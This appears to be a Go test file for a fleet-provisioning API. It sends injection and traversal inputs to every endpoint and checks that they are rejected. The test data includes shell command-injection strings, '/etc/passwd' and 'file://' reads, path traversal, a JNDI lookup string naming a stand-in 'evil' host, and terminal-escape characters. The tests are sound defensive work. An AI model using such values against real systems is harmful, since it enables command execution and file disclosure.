package api_test

import (
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"strings"
	"testing"

	"github.com/lpmos/lpmos/consensus/fleet"
)

// commands are strings that a shell, a program's flags or a file system would act on.
var commands = []string{"$(touch pwned)", "`touch pwned`", ";touch pwned", "| touch pwned", "\ntouch pwned\n", "&& touch pwned", "-oProxyCommand=touch pwned", "--help", "--output=pwned",
	"../../pwned", "/etc/passwd", "v1%2f..", "..", ".", "%2e%2e%2fpwned", "C:\\pwned", "file:///etc/passwd", "${jndi:ldap://evil/x}", "pwned\x00.raw"}

// S27: every string of every request is a string.
func TestS27_OSCommandInjection(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	node, s := newGallery(t)
	tasks := 0
	count := func() (n int) {
		node.Cluster.View(func(st *fleet.State) { n = len(st.Tasks()) })
		return n
	}
	before := count()
	for _, c := range commands {
		quoted, _ := json.Marshal(c)
		for _, req := range []struct{ method, path, body string }{
			{"POST", "/api/v1/tasks", fmt.Sprintf(`{"machine_id":%[1]s,"os_type":%[1]s,"os_version":%[1]s,"region_id":%[1]s}`, quoted)},
			{"POST", "/api/v1/tasks", fmt.Sprintf(`{"target_mac":"52:54:00:00:99:01","os_type":"debian","os_version":"12","network_config":{"hostname":%[1]s}}`, quoted)},
			{"POST", "/api/v1/plan", fmt.Sprintf(`{"target_mac":"52:54:00:00:99:02","os_type":"debian","os_version":"12","network_config":{"ssh_keys":[%[1]s]}}`, quoted)},
			{"POST", "/api/v1/plan", fmt.Sprintf(`{"machine_id":"m-01","os_type":"debian","os_version":"12","disk_layout":{"disk":%[1]s},"tags":{"a":%[1]s},"user_data":%[1]s}`, quoted)},
			{"PUT", "/api/v1/tasks/" + url.PathEscape(c) + "/approve", fmt.Sprintf(`{"approved":true,"plan_hash":%[1]s,"notes":%[1]s}`, quoted)},
			{"POST", "/api/v1/images", fmt.Sprintf(`{"name":%[1]s,"os_type":%[1]s,"os_version":%[1]s,"sha256":%[1]s,"url":%[1]s}`, quoted)},
			{"POST", "/api/v1/cluster/transfer", fmt.Sprintf(`{"to":%[1]s}`, quoted)},
			{"DELETE", "/api/v1/images/" + url.PathEscape(c), ""},
			{"DELETE", "/api/v1/machines/" + url.PathEscape(c), ""},
			{"DELETE", "/api/v1/cluster/nodes/" + url.PathEscape(c), ""},
			{"GET", "/api/v1/tasks/" + url.PathEscape(c), ""},
			{"GET", "/api/v1/tasks?status=" + url.QueryEscape(c) + "&cursor=" + url.QueryEscape(c), ""},
		} {
			if w := call(s, req.method, req.path, req.body); w.Code >= 500 {
				t.Errorf("%s %s %s answered %d: %s", req.method, req.path, req.body, w.Code, w.Body)
			}
			tasks++
		}
	}
	if after := count(); after != before {
		t.Errorf("%d tasks were made of %d requests", after-before, tasks)
	}
	left, err := os.ReadDir(dir)
	if err != nil || len(left) != 0 {
		t.Errorf("the working directory holds %v (%v)", left, err)
	}
}

// S28: names that become parts of paths have one grammar, at every place they come in.
func TestS28_NamesThatArePaths(t *testing.T) {
	node, s := newGallery(t)
	for _, name := range append([]string{"", "A", "-a", ".a", "_a", "a b", "a/b", "a\\b", "ä", strings.Repeat("a", 65), "../../x", "v1%2f.."}, commands...) {
		q := url.QueryEscape(name)
		for what, target := range map[string]string{
			"name":       "/api/v1/images?name=" + q,
			"os_type":    "/api/v1/images?name=good&os_type=" + q,
			"os_version": "/api/v1/images?name=good-1&os_type=good&os_version=" + q,
		} {
			if name == "" && what != "name" {
				continue // not given, which the name then says
			}
			if w := call(s, "POST", target, "disk", "Content-Type", octets); w.Code != 400 {
				t.Errorf("%s %q answered %d: %s", what, name, w.Code, w.Body)
			}
		}
		if fleet.ValidName(name) {
			t.Errorf("%q is a name", name)
		}
		body, _ := json.Marshal(map[string]string{"machine_id": "m-01", "os_type": name})
		if w := call(s, "POST", "/api/v1/tasks", string(body)); w.Code != 400 {
			t.Errorf("a task for %q answered %d: %s", name, w.Code, w.Body)
		}
		body, _ = json.Marshal(map[string]string{"machine_id": "m-01", "os_type": "debian", "os_version": "12" + name + "/"})
		if w := call(s, "POST", "/api/v1/tasks", string(body)); w.Code != 400 {
			t.Errorf("a task for version %q answered %d: %s", name, w.Code, w.Body)
		}
	}
	if node.Images.Stored() != 0 {
		t.Errorf("%d images are stored", node.Images.Stored())
	}
	for _, name := range []string{"debian-12", "a", "0", "a.b_c-d", strings.Repeat("a", 64)} {
		if !fleet.ValidName(name) {
			t.Errorf("%q is no name", name)
		}
	}
}

// What a wish carries is kept for ever and sent to everybody: it has bounds.
func TestS27_WhatAWishCarriesIsBounded(t *testing.T) {
	_, s := newGallery(t)
	long := strings.Repeat("a", 257)
	for name, part := range map[string]string{
		"a long tag":            `"tags":{"a":"` + long + `"}`,
		"a long name of a tag":  `"tags":{"` + long + `":"a"}`,
		"a tag without a name":  `"tags":{"":"a"}`,
		"a tag for a terminal":  `"tags":{"a":"\u001b[2J"}`,
		"a tag that turns":      `"tags":{"a":"\u202egpj"}`,
		"a region of two lines": `"region_id":"a\nb"`,
		"a long disk":           `"disk_layout":{"disk":"` + long + `"}`,
		"many keys":             `"network_config":{"ssh_keys":[` + strings.TrimSuffix(strings.Repeat(`"ssh-rsa A",`, 101), ",") + `]}`,
		"much user data":        `"user_data":"` + strings.Repeat("a", 64<<10+1) + `"`,
		"much network":          `"network_config":{"config":"` + strings.Repeat("a", 64<<10+1) + `"}`,
	} {
		for _, path := range []string{"/api/v1/tasks", "/api/v1/plan"} {
			if w := call(s, "POST", path, `{"target_mac":"52:54:00:00:99:03","os_type":"debian","os_version":"12",`+part+`}`); w.Code != 400 {
				t.Errorf("%s: %s answered %d: %.200s", path, name, w.Code, w.Body)
			}
		}
	}
}
